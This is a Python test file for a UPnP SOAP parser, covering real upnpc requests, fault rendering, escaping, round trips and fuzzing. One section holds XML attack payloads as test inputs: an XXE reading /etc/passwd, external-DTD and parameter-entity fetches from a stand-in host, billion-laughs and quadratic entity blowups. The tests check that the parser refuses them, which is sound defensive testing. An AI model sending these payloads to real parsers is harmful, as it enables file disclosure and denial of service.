"""SOAP control layer: upnpc's real requests, faults, XML attacks, round trips, the parser invariant."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sharewall.protocols import soap
from sharewall.protocols._limits import SOAP_MAX_ARGUMENT_CHARS, SOAP_MAX_BODY_BYTES
from sharewall.protocols.errors import RemoteProtocolError

WANIP1 = "urn:schemas-upnp-org:service:WANIPConnection:1"
WANIP2 = "urn:schemas-upnp-org:service:WANIPConnection:2"
# Sent by Debian's upnpc (miniupnpc 2.2.4) for `upnpc -u URL -a 10.99.0.1 80 8080 TCP 3600`
# against our own IGD:2 description, captured in a test namespace.
UPNPC_ADD_HEADER = '"urn:schemas-upnp-org:service:WANIPConnection:2#AddPortMapping"'
UPNPC_ADD_BODY = (
    b'<?xml version="1.0"?>\r\n<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
    b's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body><u:AddPortMapping '
    b'xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:2"><NewRemoteHost></NewRemoteHost>'
    b"<NewExternalPort>8080</NewExternalPort><NewProtocol>TCP</NewProtocol>"
    b"<NewInternalPort>80</NewInternalPort><NewInternalClient>10.99.0.1</NewInternalClient>"
    b"<NewEnabled>1</NewEnabled><NewPortMappingDescription>libminiupnpc"
    b"</NewPortMappingDescription><NewLeaseDuration>3600</NewLeaseDuration></u:AddPortMapping>"
    b"</s:Body></s:Envelope>\r\n"
)
UPNPC_ADD_ARGUMENTS = {
    "NewRemoteHost": "",
    "NewExternalPort": "8080",
    "NewProtocol": "TCP",
    "NewInternalPort": "80",
    "NewInternalClient": "10.99.0.1",
    "NewEnabled": "1",
    "NewPortMappingDescription": "libminiupnpc",
    "NewLeaseDuration": "3600",
}
HEADER = f'"{WANIP1}#GetExternalIPAddress"'


def envelope(inner: str, *, prolog: str = '<?xml version="1.0"?>') -> bytes:
    return (
        f'{prolog}<s:Envelope xmlns:s="{soap.SOAP_ENVELOPE_NS}"><s:Body>{inner}</s:Body>'
        "</s:Envelope>"
    ).encode()


GET_IP = envelope(f'<u:GetExternalIPAddress xmlns:u="{WANIP1}"/>')


def refuse(body: bytes, header: str | None = HEADER) -> RemoteProtocolError:
    with pytest.raises(RemoteProtocolError) as caught:
        soap.parse_request(body, header)
    return caught.value


def test_upnpc_add_port_mapping_parses() -> None:
    action = soap.parse_request(UPNPC_ADD_BODY, UPNPC_ADD_HEADER)
    assert action == soap.SoapAction(WANIP2, "AddPortMapping", UPNPC_ADD_ARGUMENTS)


def test_our_request_is_byte_identical_to_upnpc() -> None:
    body, header = soap.render_request(WANIP2, "AddPortMapping", list(UPNPC_ADD_ARGUMENTS.items()))
    assert (body, header) == (UPNPC_ADD_BODY, UPNPC_ADD_HEADER)


def test_soap_action_header_forms() -> None:
    assert soap.parse_soap_action_header(f"{WANIP1}#GetStatusInfo") == (WANIP1, "GetStatusInfo")
    assert soap.parse_soap_action_header(f' "{WANIP1}#GetStatusInfo" ') == (
        WANIP1,
        "GetStatusInfo",
    )
    for bad in (None, "", '""', WANIP1, f"{WANIP1}#", "#Get", f"{WANIP1}#Get Status", "x" * 600):
        with pytest.raises(RemoteProtocolError) as caught:
            soap.parse_soap_action_header(bad)
        assert caught.value.upnp_error == 401


def test_unqualified_action_element_is_accepted() -> None:
    action = soap.parse_request(envelope("<GetExternalIPAddress/>"), HEADER)
    assert action == soap.SoapAction(WANIP1, "GetExternalIPAddress", {})


def test_response_golden() -> None:
    body = soap.render_response(
        WANIP1, "GetExternalIPAddress", [("NewExternalIPAddress", "1.2.3.4")]
    )
    assert body == (
        b'<?xml version="1.0"?>\r\n<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" '
        b's:encodingStyle="http://schemas.xmlsoap.org/soap/encoding/"><s:Body>'
        b'<u:GetExternalIPAddressResponse xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1">'
        b"<NewExternalIPAddress>1.2.3.4</NewExternalIPAddress></u:GetExternalIPAddressResponse>"
        b"</s:Body></s:Envelope>\r\n"
    )
    assert soap.parse_response(body, WANIP1, "GetExternalIPAddress") == {
        "NewExternalIPAddress": "1.2.3.4"
    }


def test_fault_golden_and_round_trip() -> None:
    body = soap.render_fault(718)
    assert b"<faultcode>s:Client</faultcode><faultstring>UPnPError</faultstring>" in body
    assert (
        b'<UPnPError xmlns="urn:schemas-upnp-org:control-1-0"><errorCode>718</errorCode>'
        b"<errorDescription>ConflictInMappingEntry</errorDescription></UPnPError>"
    ) in body
    with pytest.raises(RemoteProtocolError) as caught:
        soap.parse_response(body, WANIP1, "AddPortMapping")
    assert (caught.value.upnp_error, caught.value.message) == (718, "ConflictInMappingEntry")
    assert soap.FAULT_HTTP_STATUS == 500


def test_fault_description_is_escaped() -> None:
    body = soap.render_fault(501, "a <b> & c")
    assert b"<errorDescription>a &lt;b&gt; &amp; c</errorDescription>" in body


XXE_FILE = envelope(
    f'<u:GetExternalIPAddress xmlns:u="{WANIP1}"><x>&xxe;</x></u:GetExternalIPAddress>',
    prolog='<?xml version="1.0"?><!DOCTYPE s [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
)
XXE_EXTERNAL_DTD = envelope(
    "<GetExternalIPAddress/>",
    prolog='<?xml version="1.0"?><!DOCTYPE s SYSTEM "http://203.0.113.1/evil.dtd">',
)
XXE_PARAMETER = envelope(
    "<GetExternalIPAddress/>",
    prolog='<?xml version="1.0"?><!DOCTYPE s [<!ENTITY % p SYSTEM "http://203.0.113.1/p">%p;]>',
)
BILLION_LAUGHS = envelope(
    f'<u:GetExternalIPAddress xmlns:u="{WANIP1}"><x>&lol9;</x></u:GetExternalIPAddress>',
    prolog='<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    + "]>",
)
QUADRATIC_BLOWUP = envelope(
    "<GetExternalIPAddress>&a;&a;&a;</GetExternalIPAddress>",
    prolog=f'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "{"x" * 20000}">]>',
)


@pytest.mark.parametrize(
    "body",
    [XXE_FILE, XXE_EXTERNAL_DTD, XXE_PARAMETER, BILLION_LAUGHS, QUADRATIC_BLOWUP],
    ids=["xxe-file", "xxe-external-dtd", "xxe-parameter-entity", "billion-laughs", "quadratic"],
)
def test_xml_attacks_are_refused_before_expansion(body: bytes) -> None:
    error = refuse(body)
    assert error.http_status == 400
    assert "passwd" not in error.message


def test_oversized_body_is_refused_unparsed() -> None:
    body = envelope(
        "<GetExternalIPAddress>" + "x" * SOAP_MAX_BODY_BYTES + "</GetExternalIPAddress>"
    )
    assert refuse(body).http_status == 413


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"not xml",
        b"<s:Envelope",
        b'<?xml version="1.0" encoding="no-such-codec"?><a/>',
        b"<Envelope/>",
        b"<NotEnvelope><Body/></NotEnvelope>",
    ],
)
def test_not_a_soap_envelope(body: bytes) -> None:
    error = refuse(body)
    assert error.http_status == 400 or error.upnp_error == 401


@pytest.mark.parametrize(
    ("body", "header", "code"),
    [
        (GET_IP, None, 401),
        (GET_IP, f'"{WANIP1}#GetStatusInfo"', 401),  # header and body disagree
        (envelope(f'<u:GetExternalIPAddress xmlns:u="{WANIP2}"/>'), HEADER, 401),
        (envelope("<GetExternalIPAddress/><GetStatusInfo/>"), HEADER, 401),
        (envelope(""), HEADER, 401),
        (envelope("<GetExternalIPAddress><a>1</a><a>2</a></GetExternalIPAddress>"), HEADER, 402),
        (envelope("<GetExternalIPAddress><a><b/></a></GetExternalIPAddress>"), HEADER, 402),
        (
            envelope(
                "<GetExternalIPAddress>"
                + "<a{}/>" * 0
                + "".join(f"<a{i}/>" for i in range(40))
                + "</GetExternalIPAddress>"
            ),
            HEADER,
            402,
        ),
        (
            envelope(
                f"<GetExternalIPAddress><a>{'x' * (SOAP_MAX_ARGUMENT_CHARS + 1)}</a></GetExternalIPAddress>"
            ),
            HEADER,
            605,
        ),
    ],
)
def test_action_level_errors(body: bytes, header: str | None, code: int) -> None:
    assert refuse(body, header).upnp_error == code


def test_comments_and_whitespace_are_tolerated() -> None:
    body = envelope(
        "<!-- hi --><GetExternalIPAddress>\n  <NewA> 1 </NewA><!-- c -->\n</GetExternalIPAddress>"
    )
    assert soap.parse_request(body, HEADER).arguments == {"NewA": " 1 "}


def test_rendered_text_is_escaped_and_cdata_survives() -> None:
    tricky = "a<b>&\"'\r\n]]>"
    body, header = soap.render_request(
        WANIP1, "AddPortMapping", [("Plain", tricky), ("Xml", soap.CData(tricky))]
    )
    # Inside CDATA a CR is normalised to LF by any XML reader; escaped text keeps it.
    assert soap.parse_request(body, header).arguments == {
        "Plain": tricky,
        "Xml": tricky.replace("\r\n", "\n"),
    }
    assert b"<![CDATA[" in body


def test_characters_xml_cannot_carry_are_replaced() -> None:
    body, header = soap.render_request(WANIP1, "A", [("V", "a\x00b\x1bc")])
    assert soap.parse_request(body, header).arguments == {"V": "a\ufffdb\ufffdc"}


def test_names_are_checked_when_rendering() -> None:
    with pytest.raises(ValueError, match="element name"):
        soap.render_response(WANIP1, "Get<x>", [])
    with pytest.raises(ValueError, match="element name"):
        soap.render_response(WANIP1, "Get", [("a b", "1")])
    with pytest.raises(ValueError, match="service type"):
        soap.soap_action_header("not a urn", "Get")


def test_parse_response_refuses_other_responses() -> None:
    body = soap.render_response(WANIP1, "GetStatusInfo", {})
    with pytest.raises(RemoteProtocolError):
        soap.parse_response(body, WANIP1, "GetExternalIPAddress")


# --- Hypothesis ------------------------------------------------------------------------------

xml_names = st.from_regex(re.compile(r"[A-Za-z_][A-Za-z0-9_]{0,15}"), fullmatch=True)
xml_text = st.text(
    st.characters(
        exclude_categories=["Cs"],
        exclude_characters="".join(chr(c) for c in range(32) if chr(c) not in "\t\n\r")
        + "\ufffe\uffff",
    ),
    max_size=40,
)
argument_lists = st.dictionaries(xml_names, xml_text, max_size=8)


@settings(deadline=None)
@given(xml_names, argument_lists)
def test_request_round_trip(action: str, arguments: dict[str, str]) -> None:
    body, header = soap.render_request(WANIP2, action, list(arguments.items()))
    assert soap.parse_request(body, header) == soap.SoapAction(WANIP2, action, arguments)


@settings(deadline=None)
@given(xml_names, argument_lists)
def test_response_round_trip(action: str, arguments: dict[str, str]) -> None:
    body = soap.render_response(WANIP2, action, arguments)
    assert soap.parse_response(body, WANIP2, action) == arguments


@settings(deadline=None)
@given(st.binary(max_size=300), st.none() | st.text(max_size=80))
def test_parse_request_returns_or_raises_protocol_error(body: bytes, header: str | None) -> None:
    try:
        soap.parse_request(body, header)
    except RemoteProtocolError:
        pass


@settings(deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "<s:Envelope xmlns:s='x'>",
                "<s:Body>",
                "<GetExternalIPAddress>",
                "<NewA>",
                "1",
                "&amp;",
                "&x;",
                "<!DOCTYPE a>",
                "<![CDATA[z]]>",
                "<?pi x?>",
                "<!-- c -->",
                "</NewA>",
                "</GetExternalIPAddress>",
                "</s:Body>",
                "</s:Envelope>",
            ]
        ),
        max_size=16,
    )
)
def test_parse_request_xml_shaped_fuzz(pieces: list[str]) -> None:
    body = "".join(pieces).encode()
    for parse in (
        lambda: soap.parse_request(body, HEADER),
        lambda: soap.parse_response(body, WANIP1, "GetExternalIPAddress"),
    ):
        try:
            parse()
        except RemoteProtocolError:
            pass


@settings(deadline=None)
@given(st.binary(max_size=300))
def test_parse_response_returns_or_raises_protocol_error(body: bytes) -> None:
    try:
        soap.parse_response(body, WANIP1, "GetExternalIPAddress")
    except RemoteProtocolError:
        pass
